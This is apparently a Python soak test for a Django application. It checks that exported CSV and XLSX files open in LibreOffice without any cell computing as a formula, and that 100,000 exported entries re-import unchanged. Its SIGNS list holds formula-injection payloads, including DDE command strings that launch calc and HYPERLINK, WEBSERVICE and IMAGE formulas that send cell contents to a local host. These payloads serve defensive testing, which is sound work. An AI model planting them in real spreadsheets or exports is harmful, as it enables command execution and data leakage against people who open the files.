"""Are exports safe to open in a spreadsheet, and does importing one bring back every sign?

    .venv/bin/python -m tests.soak.exports [SEED]

300 texts that a spreadsheet could take for formulas, in every text of an entry, are opened and
saved again by LibreOffice. Then 100,000 entries are exported and rehearsed: none may differ.
"""

import csv
import io
import random
import re
import resource
import shutil
import subprocess
import sys
import time
from collections.abc import Callable, Iterable, Iterator
from functools import partial
from itertools import islice, product
from pathlib import Path
from typing import Any

from django.urls import reverse

from curation.actions import create_many
from curation.bulk_records import CHUNK
from curation.record import PARTS, TEXTS, Record, read
from imports.export import records
from imports.files.table import MOST_UNZIPPED
from imports.models import ImportMapping, ImportRow, ImportRun
from imports.plan import make_plan
from imports.sheet import csv_of, xlsx_of
from imports.uploads import begin
from initiatives.models import Initiative
from tests.soak import FOLDER
from tests.soak.browser import Person
from tests.soak.common import Report, own_database, seed

ROWS = 100_000
BEFORE = ("", " ", "\u00a0", "'", "''", '"', '""', "“", "\ufeff", "\u200b")
SIGNS = (
    *("=1+1", "+44 161 496 0000", "-2+3", "@SUM(1,1)", "＝1+1", "＋1+1", "－1+1", "＠SUM(1,1)"),
    *("\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "{=1+1}", "%0", "|calc", "=IF(1;2;3)", "=A1&A2"),
    *("=cmd|' /C calc'!A0", "+cmd|'/C calc'!A0", '=DDE("soffice";"a";"b")', "=1+1\n=1+1"),
    *('=HYPERLINK("http://127.0.0.1:9/?"&A1;"here")', '=WEBSERVICE("http://127.0.0.1:9/")'),
    *(
        '=IMAGE("http://127.0.0.1:9/")',
        'x",=1+1',
        "x;=1+1",
        "x\t=1+1",
        "x,=1+1",
        "x\n=1+1",
        "#REF!",
    ),
)
STRETCHES = (
    *("+44 161 496 0000", "'", "''", '"', "“", "\n", "\r\n", "\r", "\t", "=1+1", "- item", " | "),
    *("مرحبا بالعالم", "שלום", "\u202eabc\u202c", "👩‍👩‍👧‍👦", "e\u0301", "\u00a0", "\u2028"),
    *("\x01", "\x0b", "\x1b[31m", "\x7f", "\x85", "\ufeff", "\ufffe", "_x000D_", "\\n", "\\"),
    *(";", ",", "bread"),
)
OFFICE = ("soffice", f"-env:UserInstallation=file://{FOLDER}/office", "--headless")
AS_CSV = "Text - txt - csv (StarCalc):44,34,76,1,,0,false,true"
# What no cell of LibreOffice holds.
LOST_IN_CELLS = re.compile(r"[\x00-\x09\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def as_csv(records: Iterable[Record]) -> bytes:
    return b"".join(csv_of(records))


# With how many rows fit into a file that can be imported.
FORMATS: dict[str, tuple[Callable[[Iterable[Record]], bytes], int]] = {
    "csv": (as_csv, ROWS),
    "xlsx": (xlsx_of, ROWS // 4),
}


def some_text(dice: random.Random) -> str:
    return "".join(dice.choices(STRETCHES, k=dice.randrange(1, 5)))


def written(entry: Initiative, wanted: Iterable[tuple[str, Callable[[], str]]]) -> None:
    """Adds an entry like `entry` for each of `wanted`: its address, and what writes its texts."""

    def like(slug: str, write: Callable[[], str]) -> Record:
        record = whole | {name: write() for name in (*TEXTS, "area")} | {"slug": slug}
        for part in PARTS:
            [*rows] = whole[part.name][:1]
            keys = {"rationale", "period_note", "scope", "note"} & {*part.keys}
            record[part.name] = [row | {key: write() for key in keys} for row in rows]
        return record

    whole = read(entry)
    for row in whole["readings"]:
        row["ref"] = None
    texts = iter(wanted)
    while chunk := [like(*pair) for pair in islice(texts, CHUNK)]:
        create_many(chunk, by=None, change_set=None)


def rehearsed(data: bytes, **mapping: Any) -> ImportRun:
    saved = ImportMapping(mapping=mapping) if mapping else None
    run = begin(data, "export", by=None, saved=saved, most=MOST_UNZIPPED)
    make_plan(run)
    return run


# --- formulas ---


def opened(file: Path, target: str) -> bytes:
    """What LibreOffice makes of `file`, numbers and all, as a file of another kind."""
    reads = (f"--infilter={AS_CSV}",) if file.suffix == ".csv" else ()
    writes = f"csv:{AS_CSV},false" if target == "csv" else target
    folder = Path(FOLDER, "opened", file.suffix[1:])
    command = [*OFFICE, *reads, "--convert-to", writes, "--outdir", str(folder), str(file)]
    subprocess.run(command, check=True, capture_output=True, timeout=300)
    return (folder / f"{file.stem}.{target}").read_bytes()


def formulas(data: bytes, ending: str) -> int:
    """How many cells of a sheet LibreOffice would compute."""
    file = Path(FOLDER, f"sheet.{ending}")
    file.write_bytes(data)
    return opened(file, "fods").count(b"table:formula=")


def held(value: Any) -> Any:
    """`value` as LibreOffice can hold it."""
    if isinstance(value, dict):
        return {key: held(inner) for key, inner in value.items()}
    if isinstance(value, list):
        return [held(inner) for inner in value]
    if isinstance(value, str):
        return LOST_IN_CELLS.sub("", value.replace("\r\n", "\n").replace("\r", "\n"))
    return value


def try_formulas(report: Report, entry: Initiative) -> str:
    texts = [before + sign for before, sign in product(BEFORE, SIGNS)]
    written(entry, ((f"-{n}-formula", partial(str, text)) for n, text in enumerate(texts)))
    originals = list(records(Initiative.objects.filter(slug__endswith="-formula")))
    sheet = io.StringIO(newline="")
    csv.writer(sheet).writerows([["id", "title", "town"], *([text] * 3 for text in texts)])
    raw = sheet.getvalue().encode()
    computed = formulas(raw, "csv")
    report.note("" if computed else "LibreOffice computes nothing at all, so this shows nothing.")
    run = rehearsed(raw, register="formulas")
    page = reverse("admin:imports_importrun_plan", args=[run.pk])
    answer: Any = Person("Eddie", "Editors").client.get(page)
    number = formulas(b"".join(answer.streaming_content), "csv")
    report.note(f"The plan has {number} formulas." if number else "")
    for ending, (make, _rows) in FORMATS.items():
        data = make(originals)
        number = formulas(data, ending)
        report.note(f"The {ending} has {number} formulas." if number else "")
        file = Path(FOLDER, f"kept.{ending}")
        file.write_bytes(data)
        document = Path(FOLDER, f"from_{ending}.ods")
        document.write_bytes(opened(file, "ods"))
        for again in FORMATS:
            back = rehearsed(opened(document, again)).rows.all()
            imported = {row.record.get("slug"): row.record for row in back}
            for record in originals:
                same = held(imported.get(record["slug"])) == held(record)
                report.note("" if same else f"{ending}, {again}: {record['title']!r} is another.")
    return f"LibreOffice computes {computed} of {len(texts)} unguarded texts"


# --- many rows ---


def try_rows(report: Report, entry: Initiative) -> Iterator[str]:
    dice = random.Random(seed())
    written(entry, ((f"row-{n}", lambda: some_text(dice)) for n in range(ROWS)))
    entries = Initiative.objects.filter(slug__startswith="row-").order_by("pk")
    for ending, (make, most) in FORMATS.items():
        writing = reading = size = 0.0
        for start in range(0, ROWS, most):
            began = time.monotonic()
            data = make(records(entries[start : start + most]))
            writing, size = writing + time.monotonic() - began, size + len(data)
            began = time.monotonic()
            run = rehearsed(data)
            reading += time.monotonic() - began
            report.tried += most
            unlike = run.rows.exclude(outcome=ImportRow.Outcome.UNCHANGED)
            report.failed += most - run.rows.count() + unlike.count()
            for row in unlike[:10]:
                print(f"FAILED: {ending}, {row.number}: {row}: {row.notes}", flush=True)
            run.delete()
        memory = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
        yield (
            f"{ending}: {size / 1e6:.0f} MB, {writing:.0f} s to write, {reading:.0f} s to rehearse,"
            f" {memory} MB held at most"
        )


def main() -> int:
    report = Report("exports")
    remarks = []
    with own_database(founding=True):
        entry = Initiative.objects.exclude(examples=None).exclude(readings=None)[0]
        if shutil.which("soffice"):
            remarks.append(try_formulas(report, entry))
        else:
            report.note("LibreOffice is not installed, so no export was opened.")
        remarks += try_rows(report, entry)
    return report.end("; ".join(remarks))


if __name__ == "__main__":
    sys.exit(main())
